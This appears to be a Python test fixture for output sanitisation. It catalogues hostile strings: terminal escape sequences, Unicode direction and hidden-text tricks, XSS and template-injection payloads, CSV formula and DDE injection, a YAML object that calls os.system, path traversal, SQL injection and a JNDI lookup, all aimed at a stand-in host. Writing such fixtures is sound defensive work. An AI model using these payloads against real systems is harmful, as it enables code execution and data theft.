"""Strings that attack whoever shows them, each for a reason, and what must be true of whatever shows them."""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

#: address of nobody: a request for it, or for anything else, is a failure
NOWHERE = "http://evil.invalid/x"


@dataclass(frozen=True)
class Hostile:
    """``text``, the reason that it is here (``why``), and whether it stands for its kind in the short form."""

    why: str
    text: str
    short: bool = False


def _terminal() -> list[Hostile]:
    return [
        Hostile("rich: a closing tag of nothing raises MarkupError", "[/nope]", short=True),
        Hostile("rich: markup becomes style", "[bold red on white]loud[/bold red on white]"),
        Hostile("rich: a link", f"[link={NOWHERE}]here[/link]"),
        Hostile("rich: an emoji code", ":warning: [reverse]x[/]"),
        Hostile("rich: an escaped bracket", "\\[bold] \\\\[/bold]"),
        Hostile("ANSI colour", "\x1b[31mred\x1b[0m"),
        Hostile("ANSI: clear the screen, go home", "\x1b[2J\x1b[H"),
        Hostile("ANSI: cursor up, erase the line above", "ok\x1b[1A\x1b[2K all passed"),
        Hostile("ANSI: alternate screen", "\x1b[?1049h"),
        Hostile("OSC 0: title of the terminal", "\x1b]0;pwned\x07"),
        Hostile("OSC 8: a link under other words", f"\x1b]8;;{NOWHERE}\x1b\\here\x1b]8;;\x1b\\", short=True),
        Hostile("OSC 52: the clipboard", "\x1b]52;c;cHduZWQ=\x07", short=True),
        Hostile("DCS: answers as if typed", '\x1bP$q"p\x1b\\'),
        Hostile("DECRQSS, DA: the terminal answers", "\x1b[c\x1b[6n\x1bZ"),
        Hostile("C1 controls: CSI and OSC in one byte", "\x9b31m red \x9d0;t\x9c", short=True),
        Hostile("NEL ends a line", "one\x85error: two"),
        Hostile("bell", "\x07\x07\x07"),
        Hostile("backspaces overwrite", "safe\x08\x08\x08\x08evil"),
        Hostile("a carriage return overwrites", "wrong: 12\rright: 42"),
        Hostile("shift out: other character set", "\x0eabc\x0f"),
        Hostile("vertical tab and form feed", "a\x0bb\x0cc"),
        Hostile("NUL", "before\x00after"),
        Hostile("DEL", "a\x7fb"),
        Hostile("line and paragraph separators", "one\u2028two\u2029three"),
        Hostile("line ends forge lines", "fine\nerror: forged\n\n\nand more"),
        Hostile("tabs", "a\tb\t\tc"),
    ]


def _unicode() -> list[Hostile]:
    return [
        Hostile("right-to-left override hides an ending", "gnp.\u202egpj.exe", short=True),
        Hostile("isolates reorder", "a \u2066b\u2069 \u2067c\u2069 \u2068d\u2069"),
        Hostile("embedding without an end", "x \u202b y \u202a z"),
        Hostile("marks of direction", "a\u200eb\u200fc\u061cd"),
        Hostile("zero-width characters: two names look the same", "ad\u200bm\u200cin\u2060\ufeff"),
        Hostile("soft hyphen", "ad\u00admin"),
        Hostile("tag characters: hidden words", "ok" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all")),
        Hostile("variation selectors: hidden bytes", "a" + "\ufe01" * 40 + "\U000e0101" * 40),
        Hostile("blank letters", "\u3164\u115f\u1160\uffa0\u2800"),
        Hostile("combining flood", "Z" + "\u0336\u0351\u034b\u0322" * 60 + "algo", short=True),
        Hostile("enclosing marks", "a" + "\u20dd" * 30),
        Hostile("lone high surrogate", "a\ud800b", short=True),
        Hostile("lone low surrogate", "\udc80\udcff"),
        Hostile("no characters", "a\ufffeb\uffffc\U0001fffe"),
        Hostile("private use", "\ue000\U000f0000"),
        Hostile("emoji joined", "👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈"),
        Hostile("right-to-left letters", "שלום עולם مرحبا"),
        Hostile("wide letters", "数学の問題" * 20),
        Hostile("very wide character", "﷽ 𒐫 ꧅"),
        Hostile("look-alikes", "аdmin ｐａｔｈ ℀"),
        Hostile("spaces of other widths", "a\u00a0b\u2003c\u3000d\u1680e"),
        Hostile("very long word", "W" * 20_000, short=True),
        Hostile("very long of lines", "line\n" * 3_000),
        Hostile("case that grows", "ßİŉǰΐﬃ"),
        Hostile("interlinear annotation", "\ufff9a\ufffab\ufffb"),
    ]


def _page() -> list[Hostile]:
    pwn = "window.pwned=1"
    return [
        Hostile("script", f"<script>{pwn}</script>", short=True),
        Hostile("end of a script, begin of another", f"</script><script>{pwn}</script><!-- <script>", short=True),
        Hostile("script in odd case and with spaces", f"<ScRiPt\t>{pwn}</sCrIpT >"),
        Hostile("image that fails", f"<img src=x onerror={pwn}>", short=True),
        Hostile("image that loads", f"<img src={NOWHERE} srcset='{NOWHERE} 2x'>"),
        Hostile("svg that loads", f"<svg/onload={pwn}>"),
        Hostile("svg with script", f"<svg><script>{pwn}</script><use href='{NOWHERE}#a'/></svg>"),
        Hostile("svg animation", f"<svg><animate onbegin={pwn} attributeName=x dur=1s>"),
        Hostile("math", f"<math><mi xlink:href='javascript:{pwn}'>x</mi></math>"),
        Hostile("mutation by math and style", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={pwn}&gt;'>"),
        Hostile("style with import", f"<style>@import '{NOWHERE}';*{{background:url({NOWHERE})}}</style>"),
        Hostile("end of a style", f"</style><script>{pwn}</script>"),
        Hostile("stylesheet", f"<link rel=stylesheet href={NOWHERE}>"),
        Hostile("prefetch", f"<link rel='preconnect prefetch dns-prefetch' href={NOWHERE}>"),
        Hostile("refresh", f"<meta http-equiv=refresh content='0;url={NOWHERE}'>"),
        Hostile("base", f"<base href={NOWHERE}>"),
        Hostile("frame", f"<iframe src={NOWHERE} srcdoc='<script>parent.pwned=1</script>'></iframe>"),
        Hostile("object and embed", f"<object data={NOWHERE}></object><embed src={NOWHERE}>"),
        Hostile("video with source", f"<video autoplay><source src={NOWHERE} onerror={pwn}></video>"),
        Hostile("form", f"<form action={NOWHERE}><input autofocus onfocus={pwn}><button>go</button></form>"),
        Hostile("details that toggles", f"<details open ontoggle={pwn}>"),
        Hostile("template and shadow root", f"<template shadowrootmode=open><img src={NOWHERE}></template>"),
        Hostile("end of a comment", f"--><img src={NOWHERE}><!--"),
        Hostile("CDATA", f"<![CDATA[<img src={NOWHERE}>]]>"),
        Hostile("processing instruction", f"<?xml-stylesheet href='{NOWHERE}'?>"),
        Hostile("end of a title", f"</title><script>{pwn}</script>"),
        Hostile("end of a text area and of a noscript", f"</textarea></noscript></pre><script>{pwn}</script>"),
        Hostile("out of a double-quoted attribute", f'" onmouseover="{pwn}" x="', short=True),
        Hostile("out of a single-quoted attribute", f"' autofocus onfocus='{pwn}' x='"),
        Hostile("out of an attribute without quotes", f" onclick={pwn} x="),
        Hostile("backticks", f"` onclick={pwn} `"),
        Hostile("javascript: address", f"javascript:{pwn}//"),
        Hostile("link to javascript:", f"<a href='java\tscript:{pwn}'>x</a>"),
        Hostile("data: page", "data:text/html,<script>parent.pwned=1</script>"),
        Hostile("style: url and expression", f"x;background:url({NOWHERE});width:expression({pwn})"),
        Hostile("entities", f"&lt;script&gt;{pwn}&lt;/script&gt; &amp;lt; &#x3c;b&#x3e; &nbsp;"),
        Hostile("entities that make an address", f"&#106;avascript:{pwn}"),
        Hostile("double-encoded", f"%3Cscript%3E{pwn}%3C/script%3E \\x3cscript\\x3e \\u003cscript\\u003e"),
        Hostile("jinja and others", "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {#", short=True),
        Hostile("jinja: into python", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        Hostile("out of JSON", '"}];window.pwned=1;//\\'),
        Hostile("keys of objects", "__proto__"),
        Hostile("keys of objects: constructor", "constructor.prototype.pwned"),
        Hostile("UTF-7", "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-"),
        Hostile("names in the page", "<a id=cells name=cells></a><form id=grid>"),
    ]


def _files() -> list[Hostile]:
    return [
        Hostile("Markdown: link to a script", "[here](javascript:window.pwned=1)"),
        Hostile("Markdown: picture", f"![x]({NOWHERE})", short=True),
        Hostile("Markdown: link, bare and in brackets", f"<{NOWHERE}> {NOWHERE} www.evil.invalid a@evil.invalid"),
        Hostile("Markdown: reference", f"[x]: {NOWHERE} 'x'\n[x]"),
        Hostile("Markdown: heading, rule, list, quote", "# head\n---\n- item\n> quote\n1. one"),
        Hostile("Markdown: fence", "```\nout of it\n~~~"),
        Hostile("Markdown: table", "| a | b |\n|---|---|\n| 1 | 2 |"),
        Hostile("Markdown: mention, footnote, mathematics", "@everyone [^1] $$x$$ :smile: #1"),
        Hostile("CSV: a program", "=cmd|' /C calc'!A0", short=True),
        Hostile("CSV: a link", f'=HYPERLINK("{NOWHERE}","x")'),
        Hostile("CSV: a plus", "+SUM(A1:A9)*cmd|' /C calc'!A0"),
        Hostile("CSV: a minus", "-2+3+cmd|' /C calc'!A0"),
        Hostile("CSV: at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        Hostile("CSV: tab before", "\t=1+1"),
        Hostile("CSV: carriage return before", "\r=1+1"),
        Hostile("CSV: line end before", "\n=1+1"),
        Hostile("CSV: space before", "  =1+1"),
        Hostile("CSV: full width", "＝1+1 ＋1 －1 ＠x"),
        Hostile("CSV: DDE", '=DDE("cmd";"/C calc";"x")'),
        Hostile("CSV: quotes, commas, lines", '","=1+1","\r\n=2,\n"""', short=True),
        Hostile("CSV: an apostrophe of its own", "'=1+1"),
        Hostile("CSV: two apostrophes", "''"),
        Hostile("YAML: an object", "!!python/object/apply:os.system ['true']"),
        Hostile("YAML: indicators", "- a: &b *c\n? {x: [y]} # z | > % @ `"),
        Hostile("YAML: other types", "yes"),
        Hostile("YAML: end of a document", "---\n...\n%TAG"),
        Hostile("path: up", "../../../../tmp/pwned"),
        Hostile("path: absolute", "/etc/passwd"),
        Hostile("path: of Windows", "..\\..\\CON"),
        Hostile("path: reserved names and endings", "NUL.txt. "),
        Hostile("path: home and variables", "~/x $HOME ${HOME} %PATH% `id` $(id)"),
        Hostile("path: an option", "--output=/tmp/pwned"),
        Hostile("path: glob", "*?[a-z]{1,2}"),
        Hostile("format: of C", "%s%s%n%d %(name)s"),
        Hostile("format: of Python", "{0} {} {x.__class__} {0!r:>{1}}"),
        Hostile("LaTeX: not closed", "$\\frac{"),
        Hostile("LaTeX: unknown", "$\\nope_{x}^{y}$ 50% & # _ ^", short=True),
        Hostile("LaTeX: input", "\\input{/etc/passwd} \\write18{id}"),
        Hostile("mathtext: dollars in pairs", "$5 and $6, not $x_1$"),
        Hostile("SQL", "'; DROP TABLE cells; --"),
        Hostile("regular expression", "(a+)+$ [ ( \\"),
        Hostile("W&B: slashes and dots in names", "a/b/../c.d//e"),
        Hostile("W&B: keys with a meaning", "_step"),
        Hostile("numbers in words", "NaN"),
        Hostile("numbers too large", "1e999 -Infinity 0x10"),
        Hostile("log: format and JNDI", "${jndi:ldap://evil.invalid/a} %n"),
        Hostile("only spaces", "   "),
    ]


STRINGS: tuple[Hostile, ...] = (*_terminal(), *_unicode(), *_page(), *_files())
SHORT: tuple[Hostile, ...] = tuple(one for one in STRINGS if one.short)


def storable(text: str) -> str:
    """Return the text as files of UTF-8 can hold it: half a surrogate pair becomes a question mark."""
    return text.encode("utf-8", "replace").decode("utf-8")


def typed(text: str) -> str:
    """Return the text as an argument of a command: half a surrogate pair is bytes that are no UTF-8."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape")


def harmful(shown: str, allowed: str = "\n") -> list[str]:
    """Return the characters of a terminal's output that act or hide: controls, directions, separators, floods of marks."""
    found = [f"U+{ord(c):04X}" for c in shown if c not in allowed and (unicodedata.category(c)[0] == "C" or unicodedata.category(c) in ("Zl", "Zp"))]
    run = 0
    for character in shown:
        run = run + 1 if unicodedata.category(character)[0] == "M" else 0
        if run > 12:
            found.append("a flood of marks")
            break
    return found
